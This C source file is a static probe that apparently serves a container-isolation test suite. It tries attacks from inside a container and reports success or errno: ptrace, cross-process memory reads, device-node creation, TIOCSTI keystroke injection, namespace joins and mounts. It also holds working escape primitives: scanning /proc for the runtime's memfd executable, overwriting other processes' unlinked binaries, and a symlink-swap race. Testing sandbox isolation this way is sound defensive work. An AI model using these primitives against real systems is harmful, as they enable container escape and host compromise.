/* What a process inside a container can do, tried for real. `probe ATTACK [ARGUMENT…]` prints one line: "ok" and what
 * it got, or "errno" and the number. Static, so that it runs in any image. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int answer(long result)
{
    if (result >= 0)
        printf("ok %ld\n", result);
    else
        printf("errno %d\n", errno);
    return 0;
}

static int open_as(const char *path, const char *mode)
{
    return open(path, (*mode == 'w' ? O_WRONLY : O_RDONLY) | O_NONBLOCK | O_CLOEXEC);
}

/* A device node of one's own, opened: the cgroup decides, not the node. */
static int device(const char *kind, const char *major_text, const char *minor_text)
{
    dev_t number = makedev((unsigned)atoi(major_text), (unsigned)atoi(minor_text));
    unlink("/probe-node");
    if (mknod("/probe-node", (*kind == 'c' ? S_IFCHR : S_IFBLK) | 0600, number) < 0)
        return -1;
    int fd = open("/probe-node", O_RDWR | O_NONBLOCK);
    return fd;
}

static int abstract(const char *name)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return connect(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)));
}

static void loot(const char *pid, const char *what, const char *detail)
{
    printf("%s %s %s\n", pid, what, detail);
    fflush(stdout);
}

/* Looks at every other process, again and again, for the moment in which one of them is still the runtime. */
static void inspect(const char *pid)
{
    char path[300], link[256];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t length = readlink(path, link, sizeof link - 1);
    if (length > 0) {
        link[length] = '\0';
        if (strncmp(link, "/memfd:", 7) == 0)
            loot(pid, "exe", link);
    }
    int program = open(path, O_RDONLY | O_CLOEXEC);
    if (program >= 0) {
        struct stat status;
        if (fstat(program, &status) == 0 && status.st_nlink == 0)
            loot(pid, "opened", "a program without a name");
        close(program);
    }
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *directory = opendir(path);
    if (directory == NULL)
        return;
    for (struct dirent *entry; (entry = readdir(directory)) != NULL;)
        if (entry->d_name[0] != '.' && atoi(entry->d_name) > 2) {
            /* That it is there may be seen; where it leads may not, nor may it be had. */
            length = readlinkat(dirfd(directory), entry->d_name, link, sizeof link - 1);
            link[length > 0 ? length : 0] = '\0';
            int stolen = openat(dirfd(directory), entry->d_name, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
            if (length > 0 || stolen >= 0)
                loot(pid, "descriptor", link);
            if (stolen >= 0)
                close(stolen);
        }
    closedir(directory);
}

static int hunt(const char *seconds)
{
    char self[16];
    unsigned long rounds = 0;
    time_t end = time(NULL) + atoi(seconds);
    snprintf(self, sizeof self, "%d", getpid());
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc)) != NULL;)
            if (entry->d_name[0] > '0' && entry->d_name[0] <= '9' && strcmp(entry->d_name, self) != 0)
                inspect(entry->d_name);
        closedir(proc);
        rounds++;
    }
    printf("rounds %lu\n", rounds);
    return 0;
}

/* Writes to the program of every other process that can be opened, again and again. */
static int rewrite(const char *seconds)
{
    char path[300];
    unsigned long opened = 0, written = 0;
    for (time_t end = time(NULL) + atoi(seconds); time(NULL) < end;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int readable = entry->d_name[0] > '0' && entry->d_name[0] <= '9' ? open(path, O_RDONLY | O_CLOEXEC) : -1;
            struct stat status;
            if (readable < 0 || fstat(readable, &status) < 0 || status.st_nlink != 0) {
                close(readable); /* a program with a name is an app's, of the image */
                continue;
            }
            opened++;
            snprintf(path, sizeof path, "/proc/self/fd/%d", readable);
            int fd = open(path, O_RDWR | O_CLOEXEC);
            if (fd >= 0 && (pwrite(fd, "X", 1, 0) == 1 || ftruncate(fd, 0) == 0))
                written++;
            close(fd);
            close(readable);
        }
        closedir(proc);
    }
    printf("opened %lu written %lu\n", opened, written);
    return 0;
}

/* PATH is a directory and a link to TARGET in turn, for SECONDS. */
static int swap(const char *path, const char *target, const char *seconds)
{
    char link[256], real[256];
    snprintf(link, sizeof link, "%s.link", path);
    snprintf(real, sizeof real, "%s.real", path);
    mkdir(real, 0755);
    if (symlink(target, link) < 0)
        return -1;
    rename(real, path);
    for (time_t end = time(NULL) + atoi(seconds); time(NULL) < end;)
        syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
    return 0;
}

int main(int argc, char **argv)
{
    const char *attack = argc > 1 ? argv[1] : "";
    char *none[4] = {"", "", "", ""};
    for (int i = 2; i < argc && i < 6; i++)
        none[i - 2] = argv[i];
    char **arg = none;
    char buffer[64];
    struct iovec local = {buffer, sizeof buffer}, remote = {(void *)(uintptr_t)strtoul(arg[1], NULL, 0), sizeof buffer};
    if (strcmp(attack, "open") == 0)
        return answer(open_as(arg[0], arg[1]));
    if (strcmp(attack, "ptrace") == 0)
        return answer(ptrace(PTRACE_SEIZE, atoi(arg[0]), NULL, NULL));
    if (strcmp(attack, "read-memory") == 0)
        return answer(process_vm_readv(atoi(arg[0]), &local, 1, &remote, 1, 0));
    if (strcmp(attack, "readlink") == 0)
        return answer(readlink(arg[0], buffer, sizeof buffer));
    if (strcmp(attack, "kill") == 0)
        return answer(kill(atoi(arg[0]), atoi(arg[1])));
    if (strcmp(attack, "device") == 0)
        return answer(device(arg[0], arg[1], arg[2]));
    if (strcmp(attack, "abstract") == 0)
        return answer(abstract(arg[0]));
    if (strcmp(attack, "session-keyring") == 0)
        return answer(syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0));
    if (strcmp(attack, "request-key") == 0)
        return answer(syscall(SYS_request_key, "user", arg[0], NULL, 0));
    if (strcmp(attack, "type-into-terminal") == 0)
        return answer(ioctl(0, TIOCSTI, "x"));
    if (strcmp(attack, "new-namespace") == 0)
        return answer(unshare((int)strtoul(arg[0], NULL, 0)));
    if (strcmp(attack, "join-namespace") == 0)
        return answer(setns(open(arg[0], O_RDONLY), 0));
    if (strcmp(attack, "mount") == 0)
        return answer(mount(arg[0], arg[1], arg[2], (unsigned long)strtoul(arg[3], NULL, 0), ""));
    if (strcmp(attack, "user") == 0)
        return printf("uid %u %u\n", getuid(), geteuid()), 0;
    if (strcmp(attack, "hunt") == 0)
        return hunt(arg[0]);
    if (strcmp(attack, "rewrite") == 0)
        return rewrite(arg[0]);
    if (strcmp(attack, "swap") == 0)
        return answer(swap(arg[0], arg[1], arg[2]));
    fprintf(stderr, "no attack %s\n", attack);
    return 2;
}
